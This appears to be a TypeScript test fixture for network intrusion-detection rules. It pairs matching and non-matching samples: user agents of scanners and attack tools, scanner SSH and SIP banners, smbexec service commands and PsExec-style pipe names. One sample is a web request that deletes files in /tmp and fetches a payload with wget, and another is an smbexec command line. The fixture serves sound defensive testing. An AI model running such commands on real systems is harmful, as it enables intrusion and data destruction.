import { agent, called, get, opened, tcp, type OwnCase } from './own-made.ts';
import { wide } from './app/made.ts';
import { datagram } from './talk.ts';

const SERVICES = '367abb81-9844-35f1-ad32-98f038001003';
const browser = agent('Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0');
const said: readonly (readonly [number, string, string])[] = [
  [1990200, 'sqlmap/1.7 (https://sqlmap.org)', 'mysqlmapper'],
  [1990201, 'Mozilla/5.00 (Nikto/2.5.0)', 'Nikto the fan'],
  [1990202, 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'nmap reader'],
  [1990203, 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Masscanner'],
  [1990204, 'Mozilla/5.0 zgrab/0.x', 'grab/1'],
  [1990205, 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Nuclei Reader'],
  [1990206, 'DirBuster-1.0-RC1', 'Dirk/1'],
  [1990207, 'gobuster/3.6', 'gob/1'],
  [1990208, 'feroxbuster/2.10', 'ferox'],
  [1990209, 'Fuzz Faster U Fool v2.1.0', 'fuzzy/1'],
  [1990210, 'Wfuzz/3.1.0', 'fuzz'],
  [1990211, 'WPScan v3.8.25 (https://wpscan.com)', 'wp/1'],
  [1990212, 'Mozilla/5.0 (Hydra)', 'Hydrant'],
  [1990213, 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22)', 'vas'],
  [1990214, 'Mozilla/4.0 (compatible; Nessus SOAP)', 'ness'],
  [1990215, 'w3af.org', 'w3c'],
  [1990216, 'Arachni/v1.5', 'Arachne'],
  [1990217, 'Havij', 'hav'],
  [1990218, 'WhatWeb/0.5.5', 'what web'],
  [1990219, 'commix/v3.9 (https://commixproject.com)', 'comic/1'],
  [1990220, 'ZmEu', 'zoo'],
  [1990221, 'Mozilla/5.0 Jorgee', 'Jorge'],
  [1990222, 'dirsearch/0.4', 'directory search'],
  [1990223, 'fimap.googlecode.com/v09', 'imap'],
  [1990224, 'jexboss', 'jboss'],
];
const options = (name: string): Uint8Array[] => [
  datagram(
    `OPTIONS sip:100@x SIP/2.0\r\nVia: SIP/2.0/UDP a\r\nFrom: <sip:a@x>\r\nUser-Agent: ${name}\r\nContent-Length: 0\r\n\r\n`,
    {
      dport: 5060,
    },
  ),
];
const smbexec = '%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1';

export const TOOL_CASES: readonly OwnCase[] = [
  ...said.map(([sid, hit, miss]): OwnCase => [sid, agent(hit), agent(miss)]),
  [1990230, get('/', { 'Acunetix-Aspect': 'enabled' }), browser],
  [
    1990231,
    tcp(22, 'SSH-2.0-Nmap-SSH2-Hostkey\r\n', 'SSH-2.0-OpenSSH_9.6\r\n'),
    tcp(22, 'SSH-2.0-OpenSSH_9.6\r\n', 'SSH-2.0-x\r\n'),
  ],
  [
    1990232,
    tcp(22, 'SSH-2.0-ZGrab ZGrab SSH Survey\r\n', 'SSH-2.0-x\r\n'),
    tcp(22, 'SSH-2.0-Grab\r\n', 'SSH-2.0-x\r\n'),
  ],
  [1990233, options('friendly-scanner'), options('Linphone/5')],
  [
    1990234,
    get('/shell?cd+/tmp;rm+-rf+*;wget+h/a', { 'User-Agent': 'Hello, world' }),
    get('/shell?cd+/tmp', { 'User-Agent': 'curl/8' }),
  ],
  [1990240, called(SERVICES, 12, wide(smbexec)), called(SERVICES, 12, wide('%COMSPEC% /c C:\\agent\\update.cmd'))],
  [1990241, called(SERVICES, 24, smbexec), called(SERVICES, 24, 'C:\\Program Files\\agent.exe')],
  [1990245, opened('PSEXESVC'), opened('spoolss')],
  [1990246, opened('RemCom_communicaton'), opened('RemoteRegistry')],
  [1990247, opened('PAExec-12-host'), opened('PAEx')],
  [1990248, opened('ahexec'), opened('srvsvc')],
];
